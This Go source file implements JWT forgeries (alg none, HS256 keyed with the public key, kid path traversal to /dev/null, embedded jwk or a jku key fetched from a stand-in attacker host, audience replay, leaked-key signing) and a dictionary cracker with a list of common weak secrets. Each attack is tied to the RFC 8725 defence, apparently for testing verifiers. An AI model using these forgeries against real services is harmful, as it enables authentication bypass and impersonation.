package token

import (
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"time"
)

// ForgeKind is one way to make a token that nobody issued.
type ForgeKind struct {
	Name string
	Doc  string // one sentence: what it attacks
	// Source is the section that says how to refuse it, "" where nothing can.
	Source string
	make   func(m *Material) (string, error)
}

// Material is what an attacker has.
type Material struct {
	// Captured is a genuine token, "" if there is none. Its claims are kept but for
	// those below.
	Captured string
	// Foreign is a genuine token for another audience.
	Foreign string
	// Subject and Role are what the forged token is to say; "" leaves the claim.
	Subject, Role string
	// Issuer and Audience are what everybody knows, for a token made from nothing.
	Issuer, Audience string
	// Public is the key that verifiers publish; one that cannot verify stands for none.
	Public Key
	// Leaked is a key that should not have been seen.
	Leaked *Key
	// ByAddress has embedded-key say where the attacker's key can be fetched (jku)
	// instead of bringing it along (jwk).
	ByAddress bool
	// Words are tried as secrets.
	Words []string
	Now   time.Time
	// Tries counts the secrets tried; Forge sets it.
	Tries int
	// Cracked is the secret found; Forge sets it.
	Cracked string
	// read are the claims of the token readFrom.
	read     []Claim
	readFrom string
}

// ForgeKinds lists the forgeries in the order of the help.
func ForgeKinds() []ForgeKind {
	return []ForgeKind{
		{DecodeOnly, "The payload edited, the old signature kept: for servers that decode and do not verify.", "RFC 8725 §3.3", forgeDecodeOnly},
		{AnyAlg, "The header's alg is none, or HS256 keyed with the public key: for servers that let the token choose.", "RFC 8725 §3.1", forgeAnyAlg},
		{KidPath, "The kid is the path of an empty file, the signature made with an empty key: for servers that open what kid names.", "RFC 8725 §3.10", forgeKidPath},
		{EmbeddedKey, "The attacker's own key in the header: for servers that take the key from the token.", "RFC 8725 §3.10", forgeEmbeddedKey},
		{NoAudience, "A genuine token for another service: for servers that do not look whom it is for.", "RFC 8725 §3.9", forgeNoAudience},
		{WeakSecret, "The secret guessed from a list of words, against one captured token.", "RFC 8725 §3.5", forgeWeakSecret},
		{LeakedKey, "Signed with a key that leaked: no verifier can tell, until the key is changed.", "", forgeLeakedKey},
	}
}

// The reasons why a forgery cannot be made.
var (
	ErrUnknownForgery = errors.New("no such forgery")
	ErrNothingCaught  = errors.New("no genuine token has been captured")
	ErrNoForeign      = errors.New("no token for another audience has been captured")
	ErrNoLeak         = errors.New("no key has leaked")
	ErrOnlyVerifies   = errors.New("the leaked key only verifies")
	ErrNotHMAC        = errors.New("the captured token is not signed with a secret")
	ErrNotGuessed     = errors.New("no word of the list is the secret")
)

// Forge makes a token of a kind from what the attacker has. The error is one of those above.
func Forge(kind string, m *Material) (string, error) {
	for _, k := range ForgeKinds() {
		if k.Name == kind {
			return k.make(m)
		}
	}
	return "", ErrUnknownForgery
}

// claims are those of the captured token, or such as an issuer would write, with the
// wanted subject and role, valid for an hour.
func (m *Material) claims() []Claim {
	s := &spoiled{}
	if m.Captured != "" {
		if m.readFrom != m.Captured {
			m.read, m.readFrom = nil, m.Captured
			for _, member := range Decode(m.Captured).Payload.Members {
				m.read = append(m.read, Claim{member.Name, json.RawMessage(member.JSON)})
			}
		}
		s.claims = slices.Clone(m.read)
	} else {
		s.with("sub", m.Subject)
		if m.Issuer != "" {
			s.with("iss", m.Issuer)
		}
		if m.Audience != "" {
			s.with("aud", m.Audience)
		}
	}
	if m.Subject != "" {
		s.with("sub", m.Subject)
	}
	if m.Role != "" {
		s.with("role", m.Role)
	}
	return s.with("iat", m.Now.Unix()).with("exp", m.Now.Unix()+3600).claims
}

func (m *Material) payload() string { return (&spoiled{claims: m.claims()}).payload() }

func forgeDecodeOnly(m *Material) (string, error) {
	parts := segments(m.Captured)
	if len(parts) != 3 {
		return "", ErrNothingCaught
	}
	return parts[0] + "." + encode(m.payload()) + "." + parts[2], nil
}

func forgeAnyAlg(m *Material) (string, error) {
	if m.Public.verify != nil && m.Public.Algorithm != HS256 {
		return hmacToken(sha256.New, m.Public.asSecret(), header(HS256), m.payload()), nil
	}
	return encode(header("none")) + "." + encode(m.payload()) + ".", nil
}

// EmptyFile is a path that exists on every Unix system and has no content.
const EmptyFile = "../../dev/null"

func forgeKidPath(m *Material) (string, error) {
	return hmacToken(sha256.New, nil, `{"alg":"HS256","kid":"`+EmptyFile+`","typ":"JWT"}`, m.payload()), nil
}

func forgeEmbeddedKey(m *Material) (string, error) {
	private, jwk := attackerKey()
	member := `"jwk":` + jwk
	if m.ByAddress {
		member = `"jku":"` + AttackerKeys + `"`
	}
	text := encode(`{"alg":"EdDSA",`+member+`,"typ":"JWT"}`) + "." + encode(m.payload())
	return text + "." + base64.RawURLEncoding.EncodeToString(ed25519.Sign(private, []byte(text))), nil
}

// attackerKey is a key of the attacker's own, with its public half as JSON (RFC 8037 §2).
func attackerKey() (private ed25519.PrivateKey, jwk string) {
	seed := sha256.Sum256([]byte("a key of the attacker's own"))
	private = ed25519.NewKeyFromSeed(seed[:])
	public := base64.RawURLEncoding.EncodeToString(private.Public().(ed25519.PublicKey))
	return private, `{"kty":"OKP","crv":"Ed25519","x":"` + public + `"}`
}

// AttackerKeys is where the attacker publishes the key.
const AttackerKeys = "https://attacker.example/keys.json"

// Fetch is what a server gets that asks for a set of keys by its address (RFC 7517 §5),
// in a world where only the attacker publishes one; "" if nothing is there.
func Fetch(address string) string {
	if address != AttackerKeys {
		return ""
	}
	_, jwk := attackerKey()
	return `{"keys":[` + jwk + `]}`
}

func forgeNoAudience(m *Material) (string, error) {
	if m.Foreign == "" {
		return "", ErrNoForeign
	}
	return m.Foreign, nil
}

func forgeWeakSecret(m *Material) (string, error) {
	secret, tries, err := Crack(m.Captured, m.Words)
	m.Tries, m.Cracked = tries, secret
	if err != nil {
		return "", err
	}
	h := header(HS256)
	if kid, ok := Decode(m.Captured).Header.Text("kid"); ok {
		h = Key{ID: kid, Algorithm: HS256}.header(plainType)
	}
	return hmacToken(sha256.New, []byte(secret), h, m.payload()), nil
}

func forgeLeakedKey(m *Material) (string, error) {
	switch {
	case m.Leaked == nil:
		return "", ErrNoLeak
	case !m.Leaked.CanSign():
		return "", ErrOnlyVerifies
	}
	return Sign(*m.Leaked, m.claims())
}

// Crack tries words as the secret of an HS256 token, in their order, and counts the
// tries. No server takes part. The error is ErrNothingCaught, ErrNotHMAC or ErrNotGuessed.
func Crack(raw string, words []string) (secret string, tries int, err error) {
	parts := segments(raw)
	if len(parts) != 3 {
		return "", 0, ErrNothingCaught
	}
	if alg, _ := Decode(raw).Header.Text("alg"); alg != HS256 {
		return "", 0, ErrNotHMAC
	}
	text, signature := parts[0]+"."+parts[1], lenient(parts[2])
	for i, word := range words {
		mac := hmac.New(sha256.New, []byte(word))
		mac.Write([]byte(text))
		if hmac.Equal(mac.Sum(nil), signature) {
			return word, i + 1, nil
		}
	}
	return "", len(words), ErrNotGuessed
}

// CommonSecrets is a list of words that programs have been shipped with: what stands
// in samples, what people type first, and both with the usual endings.
func CommonSecrets() []string {
	stems := strings.Fields(`secret password changeme admin test jwt token key private default dev letmein qwerty
		welcome master root example sample supersecret mysecret topsecret keyboard demo app api node express auth
		session login user shhhhh s3cr3t p4ssw0rd passw0rd abc iloveyou monkey dragon sunshine football`)
	endings := []string{"", "1", "12", "123", "1234", "12345", "!", "key", "_key", "-key", "secret", "-secret", "_secret",
		"token", "2023", "2024", "2025", "2026", "01", "007"}
	var all []string
	for _, ending := range endings {
		for _, stem := range stems {
			all = append(all, stem+ending, strings.ToUpper(stem[:1])+stem[1:]+ending)
		}
	}
	all = append(all, "your-256-bit-secret", "keyboard cat", "your_jwt_secret", "jwt-secret-key", "secretkey", "my-secret-key", "a-string-secret-at-least-256-bits-long",
		"ThisIsASecret", "thisisasecret", "change_me", "change-me", "please change me", "not so secret", "super secret key", "123456", "1234567890", "0123456789abcdef")
	seen := map[string]bool{}
	return slices.DeleteFunc(all, func(word string) bool {
		twice := seen[word]
		seen[word] = true
		return twice
	})
}
